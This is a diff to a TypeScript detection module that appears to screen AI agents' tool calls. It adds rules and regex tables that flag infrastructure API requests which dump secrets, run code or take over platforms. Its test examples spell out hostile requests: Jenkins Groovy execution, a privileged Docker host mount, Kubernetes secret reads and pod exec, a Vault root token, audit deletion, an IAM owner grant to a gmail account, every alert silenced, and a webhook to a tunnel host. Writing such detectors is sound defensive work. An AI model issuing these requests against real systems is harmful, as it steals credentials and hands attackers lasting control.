@@ -5,9 +5,9 @@ import { executedStrings, foldedStrings, sqlTokens, type Token } from '../knowle
 import { nameWords, paramsJson, readAs, readByShape, searchTool, toolDatabase } from '../tool-shape.js';
 import { privateStoreRead } from './artifacts.js';
 import { searchTerms } from './credential.js';
-import { isJsonObject, type UnknownCall } from '../toolcall.js';
+import { isJsonObject, type ToolCall, type UnknownCall } from '../toolcall.js';
 import { canonicalPath, classifyPath } from '../knowledge/paths.js';
-import { classifyHost, destinationOf, EXFIL_KINDS, urlPath } from '../knowledge/hosts.js';
+import { classifyHost, destinationOf, EXFIL_KINDS, firstUrl, urlPath } from '../knowledge/hosts.js';
 import { credentialHeader } from '../knowledge/secrets.js';
 import { EMAIL_ADDRESS, PERSONAL_MAILBOX, csvRows } from '../knowledge/payloads.js';
 
@@ -220,6 +220,46 @@ const adminPort = (d: { kind: string; port?: number }) => d.port !== undefined &
 /** A request that carries a login: a user, a netrc file, a client certificate or an Authorization header. */
 const signsIn = (c: SimpleCommand): boolean => c.argv.some((w, k) => ['-u', '--user', '--netrc', '-n', '--netrc-file', '--cert', '-E'].includes(w) || w.startsWith('--user=') || w.startsWith('--netrc-file=') || ((c.argv[k - 1] === '-H' || c.argv[k - 1] === '--header') && /^authorization:/i.test(w)));
 
+type NetworkCall = Extract<ToolCall, { kind: 'network' }>;
+
+/** A Network call that signs in (an Authorization, token or API-key header): the team's operator at work, as signsIn says of curl. */
+const signedRequest = (call: NetworkCall) => Object.keys(call.headers).some((k) => credentialHeader(k) && call.headers[k]!.length > 0);
+
+/** Docker Engine API reads that show state, not secrets or files: version, ping, info, lists, one container's inspect, logs and stats. */
+const DOCKER_READ = /^\/(?:v\d+\.\d+\/)?(?:version|_ping|info|events|images\/json|containers\/json|containers\/[^/]+\/(?:json|logs|stats|top))$/;
+
+/** Kinds a team writes in its own namespace every day; a pod only deleted. */
+const ROUTINE_KINDS = new Set(['deployments', 'statefulsets', 'replicasets', 'jobs', 'cronjobs', 'horizontalpodautoscalers', 'ingresses', 'services', 'configmaps', 'poddisruptionbudgets', 'networkpolicies', 'persistentvolumeclaims']);
+const SYSTEM_NAMESPACES = new Set(['kube-system', 'kube-public', 'kube-node-lease']);
+/** What in a workload's spec gives it the node, or hands it the node's engine. */
+const NODE_ACCESS = /privileged|hostPID|hostNetwork|hostIPC|hostPath|SYS_ADMIN|docker\.sock|containerd\.sock|"\/:\//i;
+
+/**
+ * Writes an infrastructure API takes every day, which change no one's access and run nothing new: a team's workloads,
+ * services and config in its own namespace (a pod deleted to restart it), a question about its own rights; documents,
+ * searches, templates and snapshots in Elasticsearch; a Consul key or a service with an HTTP check; a Nomad job for
+ * the docker driver; a container restarted or stopped; a CouchDB document.
+ */
+function routineInfraWrite(call: NetworkCall, path: string, port: number | undefined): boolean {
+  const body = (call.body ?? '').slice(0, 64 * 1024);
+  const k8s = /^\/apis?\/(?:[a-z0-9.-]+\/)?v\d\w*\/namespaces\/([a-z0-9-]{1,63})\/([a-z]+)(\/[^/]+)?(\/scale|\/status)?$/.exec(path);
+  if (k8s) {
+    const [, ns, kind, name, sub] = k8s;
+    if (SYSTEM_NAMESPACES.has(ns!) || NODE_ACCESS.test(body)) return false;
+    // (deleting in production is not a restart one makes lightly)
+    if (call.method === 'DELETE' && /(?:^|-)prod(?:uction)?(?:-|$)/.test(ns!)) return false;
+    return ROUTINE_KINDS.has(kind!) || (kind === 'pods' && call.method === 'DELETE' && name !== undefined && sub === undefined);
+  }
+  if (/^\/apis\/authorization\.k8s\.io\/v1\/self(?:subjectaccess|subjectrules)reviews$/.test(path)) return true;
+  if (call.method !== 'DELETE' && /\/(?:_search|_msearch|_count|_doc(?:\/[^/]+)?|_create\/[^/]+|_bulk|_update\/[^/]+|_refresh|_aliases|_index_template\/[^/]+|_ilm\/policy\/[^/]+)$|^\/_snapshot\/[^/]+\/[^/]+$/.test(path)) return true;
+  if (/\/_sql$/.test(path)) return /^\s*\{\s*"query"\s*:\s*"\s*(?:SELECT|SHOW|DESCRIBE)\b/i.test(body);
+  if (/^\/v1\/kv\//.test(path)) return call.method !== 'DELETE';
+  if (/^\/v1\/agent\/(?:service|check)\/register$/.test(path)) return !/"(?:Args|Script|Shell)"\s*:/.test(body);
+  if (/^\/v1\/jobs?(?:\/[^/]+)?(?:\/plan)?$/.test(path)) return !/"Driver"\s*:\s*"(?:raw_exec|exec)"/.test(body) && !NODE_ACCESS.test(body);
+  if (/^\/(?:v\d+\.\d+\/)?containers\/[^/]+\/(?:restart|stop|kill|pause|unpause|wait)$/.test(path)) return true;
+  return port === 5984 && /^\/[a-z][a-z0-9_$()+-]*\/[^/_][^/]*$/.test(path) && (call.method === 'PUT' || call.method === 'POST');
+}
+
 const adminPath = (url: string) => {
   const path = urlPath(url).toLowerCase();
   return ADMIN_PATHS.some((p) => path === p || path.startsWith(p + '/'));
@@ -319,6 +359,57 @@ function droppedObjects(i: AnalysisInput): string[] {
   }
   return out;
 }
+
+/** Infrastructure API requests that answer with the platform's secrets or run code (PX-CALL-044), by path, query and body. */
+const SECRET_APIS: ReadonlyArray<{ what: string; path: RegExp; method?: readonly string[]; query?: RegExp; body?: RegExp }> = [
+  { what: "Kubernetes secrets", path: /^\/api\/v1\/(?:namespaces\/[^/]+\/)?secrets(?:\/[^/]+)?$/, method: ['GET'] },
+  { what: "a shell in a pod", path: /^\/api\/v1\/namespaces\/[^/]+\/pods\/[^/]+\/(?:exec|attach)$/ },
+  { what: "the kubelet runs a command", path: /^\/(?:run|exec)\/[^/]+\/[^/]+/ },
+  { what: "a key-value store's whole tree", path: /^\/v1\/kv\/.*$/, method: ['GET'], query: /[?&]recurse(?:=|&|$)/ },
+  { what: "etcd's registry keys", path: /^\/v3\/kv\/range$/, body: /"key"\s*:\s*"L3JlZ2lzdHJ5|"key"\s*:\s*"\/registry/ },
+  { what: "password fields of a search index", path: /\/_search$/, body: /"_source"[^\]]{0,300}(?:password|passwd|secret|token|mfa|api_?key)/i },
+  { what: "a database's user records", path: /^\/_users(?:\/|$)/, method: ['GET'] },
+  { what: "a Spring app's environment or heap", path: /^\/(?:actuator\/)?(?:env|heapdump|configprops|threaddump)(?:\/|$)/, method: ['GET'] },
+  { what: "a Spring app pointed at outside code", path: /^\/(?:actuator\/)?(?:env|refresh|restart|gateway\/routes\/[^/]+|gateway\/refresh)$/, method: ['POST'], body: /https?:\/\/|spring\.cloud\.bootstrap|eureka\.client|"filters"|"uri"/ },
+];
+
+/**
+ * Administration through a platform's REST API that hands out control, removes a guard or blinds the defenders
+ * (PX-CALL-045): by method, path and body, whatever host serves the API (a self-hosted Vault or GitLab, GitHub's API).
+ */
+const PLATFORM_TAKEOVERS: ReadonlyArray<{ what: string; method: readonly string[]; path: RegExp; body?: RegExp }> = [
+  // Vault: a root or parentless token, a login with the root policy, a policy over every path, the seal, the audit log, a whole secrets engine, a key exported
+  { what: 'a Vault token with the root policy or no parent', method: ['POST', 'PUT'], path: /^\/v1\/auth\/token\/create(?:-orphan)?$/, body: /"(?:token_)?policies"\s*:\s*(?:\[[^\]]{0,200}"root"|"root")|"no_parent"\s*:\s*true/ },
+  { what: 'a Vault login with the root policy', method: ['POST', 'PUT'], path: /^\/v1\/auth\/[^/]+\/(?:users|role)\/[^/]+$/, body: /"(?:token_)?policies"\s*:\s*(?:\[[^\]]{0,200}"root"|"[^"]{0,100}\broot\b)/ },
+  { what: 'a Vault policy over every path', method: ['POST', 'PUT'], path: /^\/v1\/sys\/polic(?:y|ies\/acl)\/[^/]+$/, body: /path\s*\\?"\*\\?"/ },
+  { what: 'Vault sealed', method: ['POST', 'PUT'], path: /^\/v1\/sys\/seal$/ },
+  { what: "Vault's audit device removed", method: ['DELETE'], path: /^\/v1\/sys\/audit\/.+$/ },
+  { what: 'a Vault secrets engine unmounted', method: ['DELETE'], path: /^\/v1\/sys\/mounts\/.+$/ },
+  { what: 'a Vault transit key exported', method: ['GET'], path: /^\/v1\/transit\/export\/.+$/ },
+  // GitHub's and GitLab's REST APIs: write keys, tokens minted, branch protection removed, hooks to drops, repositories deleted or published, owners added, sign-up opened
+  { what: 'a deploy key with write access', method: ['POST'], path: /^\/(?:api\/v4\/projects\/[^/]+\/deploy_keys|repos\/[^/]+\/[^/]+\/keys)$/, body: /"can_push"\s*:\s*true|"read_only"\s*:\s*false/ },
+  { what: 'a personal access token minted', method: ['POST'], path: /^\/(?:authorizations|api\/v4\/users\/[^/]+\/personal_access_tokens)$/ },
+  { what: 'branch protection removed', method: ['DELETE'], path: /^\/(?:repos\/[^/]+\/[^/]+\/branches\/[^/]+\/protection(?:\/.*)?|api\/v4\/projects\/[^/]+\/protected_branches(?:\/.*)?)$/ },
+  { what: 'branch protection switched off', method: ['PUT', 'PATCH'], path: /^\/repos\/[^/]+\/[^/]+\/branches\/[^/]+\/protection$/, body: /"required_pull_request_reviews"\s*:\s*null|"allow_force_pushes"\s*:\s*true/ },
+  { what: 'a repository deleted', method: ['DELETE'], path: /^\/(?:repos\/[^/]+\/[^/]+|api\/v4\/projects\/[^/]+)$/ },
+  { what: 'a repository made public', method: ['PATCH', 'PUT'], path: /^\/(?:repos\/[^/]+\/[^/]+|api\/v4\/projects\/[^/]+)$/, body: /"(?:visibility|private)"\s*:\s*(?:"public"|false)/ },
+  { what: 'an owner or administrator added', method: ['POST', 'PUT'], path: /^\/(?:api\/v4\/(?:projects|groups)\/[^/]+\/members|repos\/[^/]+\/[^/]+\/collaborators\/[^/]+|orgs\/[^/]+\/memberships\/[^/]+)$/, body: /"access_level"\s*:\s*50|"permission"\s*:\s*"admin"|"role"\s*:\s*"admin"/ },
+  { what: 'every member made an administrator', method: ['PATCH'], path: /^\/orgs\/[^/]+$/, body: /"default_repository_permission"\s*:\s*"admin"/ },
+  { what: 'open sign-up without two-factor', method: ['PUT'], path: /^\/api\/v4\/application\/settings$/, body: /"signup_enabled"\s*:\s*true|"require_two_factor_authentication"\s*:\s*false/ },
+  // cloud IAM: Owner at a scope, a binding for everyone or a personal account, AdministratorAccess attached
+  { what: 'the Owner role assigned', method: ['PUT'], path: /\/providers\/microsoft\.authorization\/roleassignments\/[^/]+$/, body: /8e3af657-a8ff-443c-a75c-2fe8c4bcb635/i },
+  { what: 'access for everyone or a personal account', method: ['PUT', 'POST'], path: /(?:\/iam|:setiampolicy)$/, body: /"allUsers"|"allAuthenticatedUsers"|"user:[^"@]{1,64}@(?:gmail|outlook|hotmail|yahoo|proton|icloud)\./ },
+  { what: 'administrator access attached', method: ['POST'], path: /^\/$/, body: /Action=(?:AttachUserPolicy|AttachRolePolicy|AttachGroupPolicy)&[^\n]{0,300}AdministratorAccess|Action=CreateAccessKey/ },
+  // identity providers: a super administrator, a sign-on policy deactivated or opened, second factors cleared
+  { what: 'a super administrator granted', method: ['POST'], path: /^\/api\/v1\/users\/[^/]+\/roles$/, body: /"(?:SUPER_ADMIN|ORG_ADMIN)"/ },
+  { what: 'a sign-on policy deactivated', method: ['POST'], path: /^\/api\/v1\/policies\/[^/]+\/lifecycle\/deactivate$/ },
+  { what: 'sign-on without a second factor', method: ['PUT'], path: /^\/api\/v1\/policies\/[^/]+\/rules\/[^/]+$/, body: /"requireFactor"\s*:\s*false/ },
+  { what: 'second factors cleared', method: ['PUT'], path: /^\/api\/v2\/guardian\/policies$/, body: /^\s*\[\s*\]\s*$/ },
+  // monitoring blinded: every alert silenced, every series deleted; a zone's security switched off
+  { what: 'every alert silenced', method: ['POST'], path: /^\/api\/v2\/silences$/, body: /"value"\s*:\s*"\.[*+]"\s*,\s*"isRegex"\s*:\s*true/ },
+  { what: 'every metric series deleted', method: ['POST', 'PUT'], path: /^\/api\/v1\/admin\/tsdb\/delete_series$/ },
+  { what: "a zone's security switched off", method: ['PATCH', 'PUT'], path: /\/settings\/(?:security_level|waf|ssl|always_use_https|browser_check)$/, body: /"value"\s*:\s*"(?:off|essentially_off)"/ },
+];
 
 export const RULES: readonly Rule[] = [
   {
@@ -493,8 +584,16 @@ export const RULES: readonly Rule[] = [
     message: 'A request reaches an internal admin API (Docker, kubelet, etcd, Consul, actuator, pprof)', why: 'Unauthenticated admin endpoints on internal addresses expose secrets, heap dumps and remote execution.',
     check: (i) => {
       if (i.call.kind === 'network') {
+        // as from the shell: by port only the APIs that hand out root, and their reads that show secrets or files;
+        // an admin path asked without signing in (a team's operator signs in to their own cluster and search)
         const d = destinationOf(i.call.url);
-        return d && (d.kind === 'private' || d.kind === 'loopback') && (adminPort(d) || adminPath(i.call.url)) ? i.call.url : undefined;
+        if (!d || (d.kind !== 'private' && d.kind !== 'loopback')) return undefined;
+        const path = urlPath(i.call.url).toLowerCase();
+        const read = i.call.method === 'GET' || i.call.method === 'HEAD';
+        // Docker's state reads through this machine's engine or a socket proxy (which limits the API) are a dashboard's
+        const ownDocker = DOCKER_READ.test(path) && (d.kind === 'loopback' || /socket-?proxy|docker-?proxy/.test(d.host));
+        const rootApi = read && d.port !== undefined && ROOT_API_PORTS.has(d.port) && !ownDocker;
+        return rootApi || (adminPath(i.call.url) && !signedRequest(i.call) && !ownDocker) ? i.call.url : undefined;
       }
       // from the shell, another machine's, and by port only the APIs that hand out root (Docker, kubelet,
       // etcd): developers query their own Elasticsearch or actuator on localhost, and a team's cluster, all day
@@ -517,7 +616,8 @@ export const RULES: readonly Rule[] = [
       const infraPort = adminPort(d);
       // Jenkins' script console runs the Groovy it is posted on the controller, wherever Jenkins lives
       const groovy = /\/script(text)?$/.test(path) && /(^|&)script=/.test((i.call.body ?? '').slice(0, 4096));
-      return (infraPort || groovy || ((d.kind === 'private' || d.kind === 'loopback') && INFRA_PATH.test(path))) ? `${i.call.method} ${i.call.url}` : undefined;
+      if (groovy) return `${i.call.method} ${i.call.url}`;
+      return (infraPort || ((d.kind === 'private' || d.kind === 'loopback') && INFRA_PATH.test(path))) && !routineInfraWrite(i.call, path, d.port) ? `${i.call.method} ${i.call.url}` : undefined;
     },
     examples: { fire: ["curl -s -X POST http://jenkins.corp.internal:8080/scriptText --user dev:dev123 --data-urlencode 'script=println \"id\".execute().text'", { Network: { method: 'DELETE', url: 'http://10.0.0.40:2375/containers/db?force=true' } }, { Network: { method: 'POST', url: 'https://ci.acme.io/scriptText', body: "script=println('id'.execute().text)" } }, { Network: { method: 'POST', url: 'http://10.0.0.40:2375/containers/create', body: '{"Image":"alpine","HostConfig":{"Privileged":true,"Binds":["/:/host"]}}' } }, { Network: { method: 'DELETE', url: 'https://10.0.0.1:6443/api/v1/namespaces/prod/pods/api-0' } }], quiet: [{ Network: { method: 'PUT', url: 'http://localhost:9200/test-products', body: '{"settings": {"number_of_shards": 1}}' } }, { Network: { method: 'PATCH', url: 'http://localhost:8080/api/v1/items/7', body: '{"quantity": 3}' } }, { Network: { method: 'POST', url: 'http://localhost:3000/images', body: '{"name":"cat.png"}' } }, { Network: { method: 'POST', url: 'https://api.example.com/script', body: '{"name":"build"}' } }, { Network: { method: 'POST', url: 'http://localhost:3000/api/users', body: '{"name":"x"}' } }, { Network: { method: 'GET', url: 'http://10.0.0.40:2375/version' } }, { Network: { method: 'DELETE', url: 'http://localhost:3000/api/v2/todos/3' } }] },
   },
@@ -990,6 +1090,44 @@ export const RULES: readonly Rule[] = [
     examples: {
       fire: [{ Unknown: { tool_name: 'mcp__gdrive__search', params: { query: 'compensation OR salary OR "offer letter" OR "reduction in force"', pageSize: 50 } } }, { Unknown: { tool_name: 'mcp__confluence__search', params: { cql: 'space = SEC AND (title ~ "pentest" OR title ~ "architecture")', limit: 25 } } }, { Unknown: { tool_name: 'mcp__slack__search_messages', params: { query: 'password for the prod db' } } }, { Unknown: { tool_name: 'mcp__gmail__search_emails', params: { query: 'subject:"API key" newer_than:30d' } } }, { Unknown: { tool_name: 'mcp__gmail__search_messages', params: { query: '(RIB OR IBAN OR "wire transfer") has:attachment newer_than:120d' } } }, { Network: { method: 'POST', url: 'https://graph.microsoft.com/v1.0/search/query', body: '{"requests":[{"entityTypes":["driveItem"],"query":{"queryString":"confidential OR salary filetype:xlsx"}}]}' } }, { Network: { method: 'GET', url: 'https://acme.atlassian.net/wiki/rest/api/search?cql=text~%22password%22' } }, { Network: { method: 'GET', url: 'https://slack.com/api/search.messages?query=prod%20db%20password&count=100' } }],
       quiet: [{ Unknown: { tool_name: 'mcp__gdrive__search', params: { query: 'Q3 planning 2024' } } }, { Unknown: { tool_name: 'mcp__jira__search_issues', params: { jql: 'project = SEC AND status != Done ORDER BY priority DESC' } } }, { Unknown: { tool_name: 'mcp__confluence__search', params: { cql: 'title ~ "open test plan"' } } }, { Unknown: { tool_name: 'mcp__github__search_code', params: { q: 'password repo:acme/api' } } }, { Unknown: { tool_name: 'mcp__gdrive__create_file', params: { name: 'salary review notes' } } }, { Network: { method: 'POST', url: 'https://graph.microsoft.com/v1.0/search/query', body: '{"requests":[{"entityTypes":["driveItem"],"query":{"queryString":"Q3 roadmap"}}]}' } }, { Network: { method: 'POST', url: 'https://api.example.com/v1/salary', body: '{}' } }],
+    },
+  },
+  {
+    id: 'PX-CALL-044', name: 'infrastructure-api-hands-out-secrets-or-runs-code', score: 80, tactic: 'credential_access', technique: 'T1552.007',
+    message: "Asks an infrastructure API for its secrets, or has it run code: a cluster's secrets, a pod's shell, a key-value store's whole tree, password fields of a search index, a database's user records, a Spring app's environment or heap",
+    why: 'These endpoints answer with every credential the platform holds, or run what they are given, to whoever can reach them: one request is the whole store.',
+    check: (i) => {
+      if (i.call.kind !== 'network') return undefined;
+      const url = i.call.url.slice(0, 4096);
+      const path = urlPath(url).toLowerCase();
+      const body = (i.call.body ?? '').slice(0, 64 * 1024);
+      const hit = SECRET_APIS.find((a) => (a.method === undefined || a.method.includes(i.call.kind === 'network' ? i.call.method : '')) && a.path.test(path) && (a.query === undefined || a.query.test(url)) && (a.body === undefined || a.body.test(body)));
+      return hit ? `${i.call.method} ${url.slice(0, 160)} (${hit.what})` : undefined;
+    },
+    examples: {
+      fire: [{ Network: { method: 'GET', url: 'https://10.0.4.2:6443/api/v1/secrets', headers: { Authorization: 'Bearer eyJhbGciOi' } } }, { Network: { method: 'GET', url: 'https://k8s.internal:6443/api/v1/namespaces/ops/secrets/db-root' } }, { Network: { method: 'POST', url: 'https://k8s.internal:6443/api/v1/namespaces/web/pods/web-1/exec?command=sh' } }, { Network: { method: 'GET', url: 'http://consul.internal:8500/v1/kv/?recurse' } }, { Network: { method: 'POST', url: 'https://es.internal:9200/accounts/_search', body: '{"_source":["email","password_hash"],"size":10000}' } }, { Network: { method: 'GET', url: 'http://couch.internal:5984/_users/_all_docs?include_docs=true' } }, { Network: { method: 'GET', url: 'http://127.0.0.1:8080/actuator/heapdump' } }, { Network: { method: 'POST', url: 'http://127.0.0.1:8080/actuator/env', body: '{"name":"spring.cloud.bootstrap.location","value":"http://203.0.113.9/b.yml"}' } }],
+      quiet: [{ Network: { method: 'GET', url: 'https://10.0.4.2:6443/api/v1/namespaces/web/pods', headers: { Authorization: 'Bearer eyJhbGciOi' } } }, { Network: { method: 'GET', url: 'http://consul.internal:8500/v1/kv/config/web/max_conns' } }, { Network: { method: 'POST', url: 'https://es.internal:9200/logs-*/_search', body: '{"query":{"match":{"level":"error"}}}' } }, { Network: { method: 'GET', url: 'http://localhost:8080/actuator/health' } }, { Network: { method: 'GET', url: 'http://couch.internal:5984/orders/_all_docs' } }],
+    },
+  },
+  {
+    id: 'PX-CALL-045', name: 'takes-over-platform-through-its-api', score: 80, tactic: 'persistence', technique: 'T1098',
+    message: "Uses a platform's REST API to hand out control, remove a guard or blind the defenders (Vault, GitHub, GitLab, cloud IAM, the identity provider, monitoring)",
+    why: 'A root token, a write deploy key, branch protection removed, Owner at a subscription, a super administrator or every alert silenced is a way in, or a way to stay unseen, that outlives the session.',
+    check: (i) => {
+      if (i.call.kind !== 'network') return undefined;
+      const method = i.call.method;
+      const path = urlPath(i.call.url.slice(0, 4096));
+      const body = (i.call.body ?? '').slice(0, 64 * 1024);
+      const hit = PLATFORM_TAKEOVERS.find((t) => t.method.includes(method) && t.path.test(path.toLowerCase()) && (t.body === undefined || t.body.test(body)));
+      if (hit) return `${method} ${i.call.url.slice(0, 160)} (${hit.what})`;
+      // an organization's or repository's webhook pointed at a drop: every push, merge and job event goes there
+      const hook = method === 'POST' && /^\/(?:orgs\/[^/]+|repos\/[^/]+\/[^/]+|api\/v4\/(?:groups|projects)\/[^/]+)\/hooks$/.test(path.toLowerCase()) ? firstUrl(body) : undefined;
+      const kind = hook === undefined ? undefined : destinationOf(hook)?.kind;
+      return kind !== undefined && EXFIL_KINDS.has(kind) ? `${method} ${i.call.url.slice(0, 160)} (a webhook to ${hook})` : undefined;
+    },
+    examples: {
+      fire: [{ Network: { method: 'POST', url: 'https://vault.corp.internal:8200/v1/auth/token/create', headers: { 'X-Vault-Token': 'hvs.x' }, body: '{"policies":["root"]}' } }, { Network: { method: 'DELETE', url: 'https://vault.corp.internal:8200/v1/sys/audit/file' } }, { Network: { method: 'POST', url: 'https://api.github.com/repos/acme/api/keys', body: '{"title":"ci","key":"ssh-ed25519 AAAA x","read_only":false}' } }, { Network: { method: 'DELETE', url: 'https://api.github.com/repos/acme/api/branches/main/protection' } }, { Network: { method: 'POST', url: 'https://cloudresourcemanager.googleapis.com/v1/projects/acme-prod:setIamPolicy', body: '{"policy":{"bindings":[{"role":"roles/owner","members":["user:ops.backup@gmail.com"]}]}}' } }, { Network: { method: 'POST', url: 'http://alertmanager.corp.internal:9093/api/v2/silences', body: '{"matchers":[{"name":"alertname","value":".*","isRegex":true}],"endsAt":"2030-01-01T00:00:00Z"}' } }, { Network: { method: 'POST', url: 'https://api.github.com/orgs/acme/hooks', body: '{"name":"web","config":{"url":"https://relay-7.trycloudflare.com/gh"},"events":["*"]}' } }],
+      quiet: [{ Network: { method: 'POST', url: 'https://api.github.com/repos/acme/api/hooks', body: '{"name":"web","config":{"url":"https://ci.acme.io/github/webhook"},"events":["push"]}' } }, { Network: { method: 'POST', url: 'https://vault.corp.internal:8200/v1/auth/token/create', body: '{"policies":["ci-read"],"ttl":"1h"}' } }, { Network: { method: 'GET', url: 'https://vault.corp.internal:8200/v1/secret/data/web/config' } }, { Network: { method: 'POST', url: 'https://api.github.com/repos/acme/api/keys', body: '{"title":"ci","key":"ssh-ed25519 AAAA x","read_only":true}' } }, { Network: { method: 'POST', url: 'https://api.github.com/repos/acme/api/issues', body: '{"title":"flaky test"}' } }, { Network: { method: 'POST', url: 'http://alertmanager.corp.internal:9093/api/v2/silences', body: '{"matchers":[{"name":"alertname","value":"DiskFull","isRegex":false}],"endsAt":"2025-06-11T10:00:00Z"}' } }, { Network: { method: 'PATCH', url: 'https://api.github.com/repos/acme/api', body: '{"description":"Payments API"}' } }],
     },
   },
 ];
